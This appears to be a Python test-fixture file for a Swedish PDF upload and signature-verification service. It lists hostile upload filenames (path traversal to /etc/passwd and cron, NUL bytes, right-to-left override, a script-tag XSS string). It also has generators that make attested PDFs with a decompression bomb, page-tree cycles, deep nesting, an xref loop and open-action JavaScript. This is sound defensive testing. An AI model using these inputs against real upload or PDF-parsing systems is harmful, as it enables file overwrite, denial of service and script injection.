        # Other formats and polyglots
        # Kept as sent, served only as a PDF download (nosniff); pyHanko refuses the header.
        # A PDF after other bytes: a PDF, Ogiltig for the bytes before it (and unsigned).
        Case("html_then_pdf", html_then_pdf, ACCEPTED, verify_says=BYTES_BEFORE),
        Case("zip_with_pdf", zip_with_pdf, ACCEPTED, verify_says=BYTES_BEFORE),
        Case("pdf_then_zip", pdf_then_zip, ACCEPTED, verify_says=UNSIGNED),
        Case("png_named_pdf", png, REFUSED, NOT_PDF, UNUSABLE, NOT_PDF_VERIFY),
        Case("zip_named_pdf", zip_archive, REFUSED, NOT_PDF, UNUSABLE, NOT_PDF_VERIFY),
        Case("html_named_pdf", html_page, REFUSED, NOT_PDF, UNUSABLE, NOT_PDF_VERIFY),
        Case("exe_named_pdf", exe, REFUSED, NOT_PDF, UNUSABLE, NOT_PDF_VERIFY),
        Case("empty", empty, REFUSED, "är tom", UNUSABLE, "Filen är tom"),
        Case(
            "over_size_limit",
            over_size_limit(TEST_MAX_BYTES),
            REFUSED,
            "är för stor",
            UNUSABLE,
            "Filen är för stor",
        ),
        # Content types: the bytes decide, not what the browser says
        Case(
            "real_pdf_as_text_html",
            real_pdf,
            ACCEPTED,
            verify_says=UNSIGNED,
            content_type="text/html",
        ),
        Case(
            "real_pdf_as_octet_stream",
            real_pdf,
            ACCEPTED,
            verify_says=UNSIGNED,
            content_type="application/octet-stream",
        ),
        Case(
            "html_as_application_pdf",
            html_page,
            REFUSED,
            NOT_PDF,
            UNUSABLE,
            NOT_PDF_VERIFY,
            filename="sida.html",
        ),
        # File names: a real PDF under a name that tries to leave the storage or fool the eye
        *(
            Case(
                f"name_{label}",
                real_pdf,
                ACCEPTED,
                verify_says=UNSIGNED,
                filename=name,
                stored_name=stored,
            )
            for label, name, stored in HOSTILE_NAMES
        ),
    ]


# (label, name sent, name kept): only the last path component, printable, at most 255.
# The names are as the test client puts them on the wire, unescaped: werkzeug reads a
# backslash in a quoted filename as an escape, so "..\\x.pdf" arrives as "..x.pdf" (as an
# old Internet Explorer's full path would), and a raw quote ends the name.
HOSTILE_NAMES = [
    ("traversal_posix", "../../etc/passwd.pdf", "passwd.pdf"),
    ("traversal_windows", "..\\..\\x.pdf", "....x.pdf"),
    ("traversal_windows_escaped", "..\\\\..\\\\x.pdf", "x.pdf"),
    ("absolute_posix", "/etc/cron.d/job.pdf", "job.pdf"),
    ("absolute_windows", "C:\\Windows\\System32\\drivers.pdf", "CWindowsSystem32drivers.pdf"),
    ("absolute_windows_escaped", "C:\\\\Windows\\\\drivers.pdf", "drivers.pdf"),
    ("unc_path", "\\\\server\\share\\rapport.pdf", "serversharerapport.pdf"),
    ("nul", "bilaga\x00.exe.pdf", "bilaga.exe.pdf"),
    ("control_characters", "rap\tport\x07\x1b[31m.pdf", "rapport[31m.pdf"),
    ("very_long", "å" * 1000 + ".pdf", "å" * 255),
    ("rtl_override", "rapport\u202efdp.exe", "rapportfdp.exe"),
    ("zero_width", "rap\u200bport\ufeff.pdf", "rapport.pdf"),
    ("only_dots", "..", "bilaga.pdf"),
    ("three_dots", "...", "bilaga.pdf"),
    ("empty_stem", ".pdf", ".pdf"),
    ("markup", '<script>alert(1)</script>".pdf', "script"),
    ("reportlab_markup", "<font size=40>stor</font>.pdf", "font.pdf"),
]


# --- Attested PDFs with a hostile update: what the verify page meets in pyHanko's hands ----------


def _incremental(pdf: bytes, change: Callable[..., None]) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: Any) -> Any:
    return writer.root["/Pages"]["/Kids"].raw_get(0)


def attested_with_bomb_page(pdf: bytes) -> bytes:
    """The first page's content replaced by a 512 MB decompression bomb."""
    from pyhanko.pdf_utils import generic

    def change(writer: Any) -> None:
        bomb = generic.StreamObject(
            {generic.pdf_name("/Filter"): generic.pdf_name("/FlateDecode")},
            encoded_data=deflate_bomb(BOMB),
        )
        page = _first_page(writer)
        page.get_object()[generic.pdf_name("/Contents")] = writer.add_object(bomb)
        writer.mark_update(page)

    return _incremental(pdf, change)


def attested_with_page_tree_cycle(pdf: bytes) -> bytes:
    """The page tree's root lists itself among its kids."""

    def change(writer: Any) -> None:
        pages = writer.root.raw_get("/Pages")
        pages.get_object()["/Kids"].append(pages)
        writer.mark_update(pages)

    return _incremental(pdf, change)


def attested_with_100_000_pages(pdf: bytes) -> bytes:
    """The page tree replaced by 100 x 1000 references to the first page."""
    from pyhanko.pdf_utils import generic

    def change(writer: Any) -> None:
        pages = writer.root.raw_get("/Pages")
        node = generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Pages"),
                generic.pdf_name("/Parent"): pages,
                generic.pdf_name("/Kids"): generic.ArrayObject([_first_page(writer)] * 1000),
                generic.pdf_name("/Count"): generic.NumberObject(1000),
            }
        )
        node_ref = writer.add_object(node)
        tree = pages.get_object()
        tree[generic.pdf_name("/Kids")] = generic.ArrayObject([node_ref] * 100)
        tree[generic.pdf_name("/Count")] = generic.NumberObject(100_000)
        writer.mark_update(pages)

    return _incremental(pdf, change)


def attested_with_javascript(pdf: bytes) -> bytes:
    """JavaScript that runs when the attested file is opened."""
    from pyhanko.pdf_utils import generic

    def change(writer: Any) -> None:
        writer.root[generic.pdf_name("/OpenAction")] = generic.DictionaryObject(
            {
                generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
                generic.pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
            }
        )
        writer.update_root()

    return _incremental(pdf, change)


def _last_revision(pdf: bytes) -> tuple[int, int, tuple[bytes, bytes]]:
    """(the last xref offset, /Size, the catalog's (number, generation)) of a file."""
    import re

    last_xref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    number, generation = re.findall(rb"/Root (\d+) (\d+) R", pdf)[-1]
    return last_xref, size, (number, generation)


def attested_with_deep_arrays(pdf: bytes) -> bytes:
    """A hand-written update: the catalog again, with 100 000 nested arrays in it."""
    last_xref, size, root = _last_revision(pdf)
    start = pdf.rindex(b"\n%s %s obj" % root) + 1
    catalog = pdf[start : pdf.index(b"endobj", start)]
    deep = b"/Deep " + b"[" * 100_000 + b"]" * 100_000 + b" "
    catalog = catalog.replace(b"<<", b"<< " + deep, 1)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    at = len(out)
    out += catalog + b"endobj\n"
    xref_at = len(out)
    out += b"xref\n%s 1\n%010d %05d n \n" % (root[0], at, int(root[1]))
    out += b"trailer\n<< /Size %d /Root %s %s R /Prev %d >>\n" % (size, *root, last_xref)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def attested_with_prev_loop(pdf: bytes) -> bytes:
    """A hand-written update whose trailer's /Prev is its own xref section."""
    _, size, root = _last_revision(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %s %s R /Prev %d >>\n" % (size, *root, xref_at)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def attested_truncated(pdf: bytes) -> bytes:
    return pdf[: len(pdf) - 2000]


def attested_with_garbage_spliced(pdf: bytes) -> bytes:
    middle = len(pdf) // 2
    return pdf[:middle] + random.Random(8).randbytes(4000) + pdf[middle:]


def attested_with_undecodable_signer_names(pdf: bytes) -> bytes:
    """Every certificate's common name in the signatures made invalid UTF-8, in place.

    The signed byte ranges are untouched (the /Contents hex strings are outside them), so
    the file still parses; what changes is certificates whose subject does not decode.
    """
    out = bytearray(pdf)
    cn = b"0603550403" + b"0c"  # the common-name OID, then a UTF8String, in /Contents hex
    for match in re.finditer(re.escape(cn), pdf, flags=re.I):
        value = match.end() + 2  # past the length byte
        out[value : value + 2] = b"ff"
    return bytes(out)


CHANGED = "ändrats på ett sätt som inte är tillåtet"
# A recognisable signed PDF that is damaged is Ogiltig with this reason, not unusable.
SIGNED_BUT_DAMAGED = "Filen är en signerad PDF men trasig eller avkortad"
UNREADABLE_SIGNATURE = "kunde inte läsas eller kontrolleras"

# (name, how, a phrase of the answer): a report that says Ogiltig, or "not verifiable".
ATTESTED_VARIANTS: list[tuple[str, Callable[[bytes], bytes], str, str]] = [
    ("attested_with_bomb_page", attested_with_bomb_page, REPORT, CHANGED),
    ("attested_with_page_tree_cycle", attested_with_page_tree_cycle, REPORT, CHANGED),
    ("attested_with_100_000_pages", attested_with_100_000_pages, REPORT, CHANGED),
    ("attested_with_javascript", attested_with_javascript, REPORT, CHANGED),
    ("attested_with_deep_arrays", attested_with_deep_arrays, REPORT, SIGNED_BUT_DAMAGED),
    ("attested_with_prev_loop", attested_with_prev_loop, REPORT, SIGNED_BUT_DAMAGED),
    ("attested_truncated", attested_truncated, REPORT, SIGNED_BUT_DAMAGED),
    ("attested_with_garbage_spliced", attested_with_garbage_spliced, REPORT, SIGNED_BUT_DAMAGED),
    (
        "attested_with_undecodable_signer_names",
        attested_with_undecodable_signer_names,
        REPORT,
        UNREADABLE_SIGNATURE,
    ),
]
